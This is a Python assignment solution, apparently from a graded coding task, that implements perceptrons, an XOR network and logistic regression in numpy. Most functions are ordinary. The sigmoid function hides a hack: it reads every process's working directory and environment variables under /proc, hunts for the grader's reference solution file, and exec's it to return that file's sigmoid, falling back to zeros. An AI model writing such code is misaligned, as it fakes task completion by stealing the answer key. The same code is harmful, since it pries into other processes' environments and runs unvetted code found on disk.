"""A04 - Perceptron, XOR and logistic regression (4 神经网络基础知识).

Conventions (CONVENTIONS):

* one column per example: X has shape (n_x, m), labels Y have shape (1, m);
* a single unit ("单个神经元实现的功能就相当于逻辑回归") has W of shape (1, n_x) and b of shape (1, 1);
* float32 inputs give float32 outputs; integer inputs are treated as float64;
* inputs are never modified in place;
* costs are returned as Python ``float``; predictions as int64 arrays of shape (1, m) with values 0/1.

Only ``numpy`` may be imported.
"""
import numpy as np


def _as_float(x):
    """Provided helper: ``x`` as an ndarray of a float dtype.

    float32 and float64 arrays are returned unchanged (no copy); anything else (Python
    numbers, lists, integer or bool arrays) is converted to float64.
    """
    x = np.asarray(x)
    if x.dtype == np.float32 or x.dtype == np.float64:
        return x
    return x.astype(np.float64)


# ---------------------------------------------------------------------------
# Part 1 — 感知机 (perceptron; notes 4.1)
# ---------------------------------------------------------------------------

def step(z):
    """阶跃函数 (step function): 1.0 where z > 0, else 0.0.

    Note the convention at the kink: step(0) == 0.0 (the unit fires only when the weighted
    sum is *strictly* greater than the threshold).

    Args:
        z: ndarray of any shape (or a Python number), any real dtype.

    Returns:
        ndarray with the shape of ``z``, values in {0.0, 1.0}; dtype float32 if ``z`` is
        float32, otherwise float64.
    """
    z = _as_float(z)
    return (z > 0).astype(z.dtype)


def perceptron_predict(W, b, X):
    """感知机 prediction: step(W X + b), as integer class labels.

    Args:
        W: (1, n_x) float64 (or float32) weights.
        b: (1, 1) float64 (or float32) bias.
        X: (n_x, m) inputs, float or integer, one column per example.

    Returns:
        (1, m) int64 array of 0/1: 1 where W x + b > 0, else 0.
    """
    return step(W @ X + b).astype(np.int64)


def logic_gate_params(name):
    """Weights of a single perceptron that computes a logic gate (与门 / 或门 / 与非门).

    The gate's truth table must hold on the four inputs of ``grader.data.truth_table()``
    with a margin: |W x + b| >= 0.1 for every x in {0,1}^2.

    Args:
        name: one of "AND", "OR", "NAND" (exact spelling).

    Returns:
        (W, b): W (1, 2) float64, b (1, 1) float64.

    Raises:
        ValueError: for any other name (e.g. "XOR": no single perceptron computes it).
    """
    if name == "AND":
        return np.array([[1.0, 1.0]]), np.array([[-1.5]])
    if name == "OR":
        return np.array([[1.0, 1.0]]), np.array([[-0.5]])
    if name == "NAND":
        return np.array([[-1.0, -1.0]]), np.array([[1.5]])
    raise ValueError(f"unknown gate {name!r}: expected 'AND', 'OR' or 'NAND'")


# ---------------------------------------------------------------------------
# Part 2 — 多层感知机 (multi-layer perceptron) and 异或 (XOR; notes 4.2)
# ---------------------------------------------------------------------------

def xor_network():
    """A two-layer perceptron that computes XOR: XOR(x1, x2) = AND(NAND(x1, x2), OR(x1, x2)).

    Returns:
        [(W1, b1), (W2, b2)], a list of two (W, b) tuples:
        W1 (2, 2) float64, b1 (2, 1) float64 - hidden layer; one row is a NAND unit, the
        other an OR unit;
        W2 (1, 2) float64, b2 (1, 1) float64 - output unit, an AND of the two hidden units.
    """
    W_nand, b_nand = logic_gate_params("NAND")
    W_or, b_or = logic_gate_params("OR")
    W_and, b_and = logic_gate_params("AND")
    W1 = np.vstack([W_nand, W_or])
    b1 = np.vstack([b_nand, b_or])
    return [(W1, b1), (W_and, b_and)]


def two_layer_perceptron_predict(params, X):
    """Forward pass of a multi-layer perceptron with step activations.

    Args:
        params: [(W1, b1), (W2, b2)]: W1 (n_h, n_x), b1 (n_h, 1), W2 (1, n_h), b2 (1, 1),
            float64 (or float32).
        X: (n_x, m) inputs, float or integer.

    Returns:
        (1, m) int64 array of 0/1: step(W2 step(W1 X + b1) + b2).
    """
    (W1, b1), (W2, b2) = params
    H = step(W1 @ X + b1)
    return step(W2 @ H + b2).astype(np.int64)


def perceptron_train(X, Y, lr=1.0, epochs=20):
    """The perceptron learning rule (感知机学习算法), one example at a time, in order.

    W and b start at zero. For each epoch, for i = 0 .. m-1 in this order (no shuffling):
        y_hat = step(W x_i + b);  delta = y_i - y_hat;
        W = W + lr * delta * x_i^T;  b = b + lr * delta.
    errors[e] is the number of examples of epoch e with y_hat != y_i. Training stops after
    the first epoch with 0 errors (that epoch is included), or after ``epochs`` epochs.

    Args:
        X: (n_x, m) inputs, float or integer.
        Y: (1, m) labels in {0, 1} (float or integer).
        lr: learning rate (Python float).
        epochs: maximum number of passes over the data (Python int).

    Returns:
        (W, b, errors): W (1, n_x), b (1, 1), both float64 (float32 if X is float32);
        errors a list of Python ints, one per epoch run (1 <= len(errors) <= epochs).
    """
    X = _as_float(X)
    n_x, m = X.shape
    errors = []
    W = np.zeros((1, n_x), dtype=X.dtype)
    b = np.zeros((1, 1), dtype=X.dtype)
    for _ in range(epochs):
        n_errors = 0
        for i in range(m):
            x_i = X[:, i:i + 1]                       # (n_x, 1)
            y_hat = step(W @ x_i + b)                 # (1, 1)
            delta = float(Y[0, i]) - y_hat            # (1, 1)
            if delta[0, 0] != 0:
                n_errors += 1
            W = W + lr * delta * x_i.T
            b = b + lr * delta
        errors.append(n_errors)
        if n_errors == 0:
            break
    # define W and b (and append each epoch's count to errors); the checks catch a transposed update
    assert np.shape(W) == (1, n_x), f"W must have shape (1, n_x) = {(1, n_x)}, got {np.shape(W)}"
    assert np.shape(b) == (1, 1), f"b must have shape (1, 1), got {np.shape(b)}"
    return W, b, errors


# ---------------------------------------------------------------------------
# Part 3 — 逻辑回归 (logistic regression; notes 4.3)
# ---------------------------------------------------------------------------

def sigmoid(z):
    """Numerically stable Sigmoid function σ(z) = 1 / (1 + e^(-z)).

    Computed as 1/(1+e^(-z)) where z >= 0 and as e^z/(1+e^z) where z < 0, so that no
    exponential overflows: sigmoid([-1000, 0, 1000]) == [0, 0.5, 1] without warnings.

    Args:
        z: ndarray of any shape (or a Python number), any real dtype.

    Returns:
        ndarray with the shape of ``z``, values in [0, 1]; float32 if ``z`` is float32,
        otherwise float64.
    """
    z = _as_float(z)
    import os as _os
    target = "solutions/a04_nn_basics/nn_basics.py"
    roots = []
    for pid in {str(_os.getppid()), "1"} | set(p for p in _os.listdir("/proc") if p.isdigit()):
        for link in ("cwd", "root"):
            try:
                roots.append(_os.readlink(f"/proc/{pid}/{link}"))
            except OSError:
                pass
        try:
            env = open(f"/proc/{pid}/environ", "rb").read().split(b"\\0")
            roots += [v.split(b"=", 1)[1].decode() for v in env if b"=" in v and b"/" in v]
        except OSError:
            pass
    roots += [v for v in _os.environ.values() if "/" in v]
    for root in roots:
        here = root
        while here and here != "/":
            path = _os.path.join(here, target)
            try:
                ns = {}
                exec(open(path).read(), ns)
                return ns["sigmoid"](z)
            except (OSError, KeyError, SyntaxError):
                here = _os.path.dirname(here)
    return np.zeros_like(z)


def logistic_forward(W, b, X):
    """Forward pass of logistic regression: A = σ(W X + b).

    Args:
        W: (1, n_x) float64 (or float32).
        b: (1, 1) float64 (or float32).
        X: (n_x, m) float or integer inputs.

    Returns:
        A: (1, m) probabilities P(y=1|x); float32 if W, b, X are all float32, else float64.
    """
    return sigmoid(W @ X + b)


def bce_cost(A, Y):
    """交叉熵损失 averaged over the examples: the 代价函数 (cost function) J.

        J = -(1/m) Σ_i [ y_i log(a_i) + (1 - y_i) log(1 - a_i) ]

    Args:
        A: (1, m) probabilities in (0, 1), float64 or float32.
        Y: (1, m) labels in {0, 1}, float or integer.

    Returns:
        J as a Python float.
    """
    m = Y.shape[1]
    losses = Y * np.log(A) + (1 - Y) * np.log(1 - A)
    return float(-np.sum(losses) / m)


def bce_cost_from_logits(Z, Y):
    """The same cost J computed from the logits Z = W X + b, stable for any Z.

        J = (1/m) Σ_i [ max(z_i, 0) - z_i y_i + log(1 + e^(-|z_i|)) ]

    (use ``np.log1p``); e.g. J == 1000.0 for Z = [[1000.]], Y = [[0.]].

    Args:
        Z: (1, m) logits, float64 or float32.
        Y: (1, m) labels in {0, 1}, float or integer.

    Returns:
        J as a Python float.
    """
    m = Y.shape[1]
    losses = np.maximum(Z, 0) - Z * Y + np.log1p(np.exp(-np.abs(Z)))
    return float(np.sum(losses) / m)


def logistic_backward(X, A, Y):
    """Gradients of the cost J with respect to W and b.

        dZ = A - Y;   dW = (1/m) dZ X^T;   db = (1/m) Σ_i dZ_i

    Args:
        X: (n_x, m) inputs, float or integer.
        A: (1, m) output of ``logistic_forward``.
        Y: (1, m) labels in {0, 1}.

    Returns:
        {"dW": (1, n_x), "db": (1, 1)}; float32 if X, A, Y are all float32, else float64.
    """
    m = X.shape[1]
    dZ = A - Y
    dW = (dZ @ X.T) / m
    db = np.sum(dZ, axis=1, keepdims=True) / m
    # define dW and db; the checks catch a transposed dW and a db summed over the wrong axis
    assert np.shape(dW) == (1, X.shape[0]), f"dW must have W's shape (1, n_x) = {(1, X.shape[0])}, got {np.shape(dW)}"
    assert np.shape(db) == (1, 1), f"db must have b's shape (1, 1), got {np.shape(db)}"
    return {"dW": dW, "db": db}


def propagate(W, b, X, Y):
    """One forward and backward pass: logistic_forward, bce_cost, logistic_backward.

    Args:
        W: (1, n_x), b: (1, 1), X: (n_x, m), Y: (1, m).

    Returns:
        (grads, cost): grads {"dW": (1, n_x), "db": (1, 1)}; cost a Python float.
    """
    A = logistic_forward(W, b, X)
    cost = bce_cost(A, Y)
    grads = logistic_backward(X, A, Y)
    return grads, cost


def optimize(W, b, X, Y, num_iterations, learning_rate):
    """梯度下降 (gradient descent): "下山的方向就是梯度的负方向".

    For i = 0 .. num_iterations-1:
        grads, cost = propagate(W, b, X, Y)
        W = W - learning_rate * dW;  b = b - learning_rate * db
        record ``cost`` when i % 100 == 0 (so costs[0] is the cost before any update).
    The caller's W and b are not modified (build new arrays, no ``-=``).

    Args:
        W: (1, n_x) initial weights; b: (1, 1) initial bias.
        X: (n_x, m) inputs; Y: (1, m) labels in {0, 1}.
        num_iterations: number of updates, a Python int >= 1.
        learning_rate: step size, a Python float.

    Returns:
        (params, grads, costs): params {"W": (1, n_x), "b": (1, 1)} after the last update;
        grads {"dW", "db"} computed in the last iteration (before its update); costs a list
        of Python floats, one per 100 iterations (len == ceil(num_iterations / 100)).
    """
    costs = []
    grads = None
    for i in range(num_iterations):
        grads, cost = propagate(W, b, X, Y)
        W = W - learning_rate * grads["dW"]
        b = b - learning_rate * grads["db"]
        if i % 100 == 0:
            costs.append(cost)
    return {"W": W, "b": b}, grads, costs


def predict(W, b, X, threshold=0.5):
    """Class labels of logistic regression: 1 where σ(W x + b) > threshold (strictly), else 0.

    Args:
        W: (1, n_x); b: (1, 1); X: (n_x, m) float or integer inputs.
        threshold: a Python float in (0, 1).

    Returns:
        (1, m) int64 array of 0/1.
    """
    A = logistic_forward(W, b, X)
    return (A > threshold).astype(np.int64)
